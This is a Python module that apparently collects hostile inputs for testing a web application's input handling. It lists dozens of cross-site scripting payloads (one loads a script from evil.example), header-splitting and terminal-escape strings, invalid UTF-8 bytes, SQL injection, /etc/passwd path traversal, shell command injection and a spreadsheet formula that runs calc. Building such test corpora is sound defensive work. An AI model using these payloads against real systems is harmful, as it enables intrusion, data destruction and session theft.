"""What nobody sends by mistake."""

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert`1`</script>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<img src="x" onerror="alert(1)">',
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>',
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<table background=javascript:alert(1)>",
    "<div style=width:expression(alert(1))>",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""What a page would run, were it shown as a page; the last one in UTF-7."""

CONTROLS: Final = (
    "\r\nSet-Cookie: a=b",
    "\nSet-Cookie: a=b",
    "\rSet-Cookie: a=b",
    "\r\n\r\n<script>alert(1)</script>",
    "a\0b",
    "a\u2028b\u2029c",
    "a\x1b[31mb\x07",
    "a\x85b\x9bc",
    "\ufeffx\ufffe",
    "\u202etxt.exe",
    "a\x7fb",
    "嘊嘍Set-Cookie: a=b",
)
"""What splits a header, a line or a log, or turns a terminal over."""

NO_TEXT: Final = (b"\xed\xa0\x80", b"\xed\xbf\xbf\xed\xa0\x80", b"\xff\xfe", b"\xc0\x80", b"\xf4\x90\x80\x80", b"\x80")
"""No UTF-8: half surrogate pairs, overlong forms, beyond the last character."""

OTHERS: Final = (
    "'; DROP TABLE campaigns;--",
    "1 OR 1=1",
    "../../../../etc/passwd",
    "%2e%2e%2f",
    "%s%n%x{0}{__class__}",
    "$(id)`id`|id",
    "=cmd|' /C calc'!A0",
    "__proto__",
    "x" * 10_000,
)
HOSTILE: Final = (*SCRIPTS, *CONTROLS, *OTHERS)
